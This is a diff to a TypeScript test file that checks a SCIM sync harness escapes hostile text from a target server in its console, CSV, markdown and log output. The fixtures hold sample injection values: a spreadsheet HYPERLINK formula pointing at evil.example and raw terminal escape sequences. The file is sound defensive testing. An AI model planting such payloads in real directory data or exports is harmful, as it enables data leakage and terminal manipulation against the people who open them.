@@ -8,6 +8,8 @@
 import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { Writable } from 'node:stream';
+import { main } from '../../harness/cli/main';
 import { type LogEntry } from '../../harness/log/log-entry';
 import { HOSTILE_TEXT_PAYLOADS, type HostileServer, startHostileServer } from '../helpers/hostile-server';
 import { splitCodeSpans } from '../helpers/markdown-code-spans';
@@ -19,6 +21,9 @@ import { eventsOf, readRunRecords, runCli, type CliResult } from './support/run-
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
 /** What Excel and LibreOffice read as the start of a formula (OWASP CSV injection). */
 const FORMULA_START = /^[=+\-@\t\r]/;
+/** The console's own colours. */
+// eslint-disable-next-line no-control-regex
+const OWN_SGR = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;
 const ROW_TIMEOUT_MS = 60_000;
 
 let workDir: string;
@@ -34,7 +39,7 @@ function writeSource(dir: string): { readonly file: string; readonly upn: string
     objectId: `7f4bc1a3-0c1e-4f6a-9d2b-1a2b3c4d5e1${i}`,
     userPrincipalName: i === 0 ? upn : `scimh-user${i}@example.com`,
     mailNickname: `user${i}`,
-    displayName: i % 2 === 0 ? `=\u001b]0;t\u0007HYPERLINK("http://evil.example/?u=${i}","x")` : `-2+3 User ${i}\u009b2J`,
+    displayName: i % 2 === 0 ? `=\u001b]0;t\u0007HYPERLINK("http://evil.example/?u=${i}","x")` : `-2+3 User ${i}\u001b[1m\u009b2J`,
     givenName: `@Given${i}`,
     surname: `+Surname${i}`,
     accountEnabled: true,
@@ -42,6 +47,27 @@ function writeSource(dir: string): { readonly file: string; readonly upn: string
   const file = path.join(dir, 'directory.json');
   writeFileSync(file, JSON.stringify({ users, groups: [], assignments: users.map((user) => user.objectId) }));
   return { file, upn };
+}
+
+/** `scim-harness <args>` with stdout a terminal (colour on) under CI (plain lines, no live bar). */
+async function runCliOnTerminal(args: readonly string[]): Promise<CliResult> {
+  const capture = (): { readonly stream: Writable & { isTTY: boolean; columns: number }; readonly text: () => string } => {
+    let text = '';
+    const stream = Object.assign(
+      new Writable({
+        write(chunk: Buffer | string, _encoding, done) {
+          text += chunk.toString();
+          done();
+        },
+      }),
+      { isTTY: true, columns: 160 },
+    );
+    return { stream, text: () => text };
+  };
+  const stdout = capture();
+  const stderr = capture();
+  const code = await main(args, { stdout: stdout.stream, stderr: stderr.stream, env: { CI: 'true' } });
+  return { code, stdout: stdout.text(), stderr: stderr.text() };
 }
 
 function csvFilesIn(dir: string): string[] {
@@ -69,7 +95,9 @@ beforeAll(async () => {
   out = path.join(workDir, 'out');
   const source = writeSource(workDir);
   server = await startHostileServer({ pathology: 'hostile-text' });
-  sync = await runCli(['sync', '--source', source.file, '--cycles', '1', '--target', server.baseUrl, '--token', 't', '--reporter', 'console,json,markdown,csv', '--out', out]);
+  // A terminal under CI: colour on, no live bar, so the console's own colour codes must keep
+  // working on the very lines that show the target's text.
+  sync = await runCliOnTerminal(['sync', '--source', source.file, '--cycles', '1', '--target', server.baseUrl, '--token', 't', '--reporter', 'console,json,markdown,csv', '--out', out]);
   entries = eventsOf(readRunRecords(path.join(out, 'run.ndjson')), 'entry').map(({ entry }) => entry);
 }, ROW_TIMEOUT_MS);
 
@@ -97,9 +125,11 @@ describe('a target sending formulas, escape sequences and URLs', () => {
     expectNeutralisedCsv(csvFilesIn(dir));
   });
 
-  it('prints no raw ESC or C1 byte on the console of the run', () => {
+  it("prints no raw ESC or C1 byte on the console of the run but its own colours, and shows the target's lookalike of them", () => {
     expect(sync.stdout).toContain('failed:');
-    expectNoRawControls(sync.stdout);
+    expect(sync.stdout).toContain('\u001b[31m✗\u001b[39m');
+    expect(sync.stdout).toContain("'-2+3 User 3\\u001B[1m\\u009B2J' failed");
+    expectNoRawControls(sync.stdout.replace(OWN_SGR, ''));
     expectNoRawControls(sync.stderr);
   });
 
@@ -107,7 +137,7 @@ describe('a target sending formulas, escape sequences and URLs', () => {
     const result = await runCli(['logs', out, '--columns', 'Target ID,Error Code']);
     expect(result.code).toBe(0);
     expect(result.stdout).toContain('=\\u001B]0;t\\u0007HYP');
-    expect(result.stdout).toContain('-2+3 User 1\\u009B2J');
+    expect(result.stdout).toContain('-2+3 User 1\\u001B[1m');
     expectNoRawControls(result.stdout);
   });
 
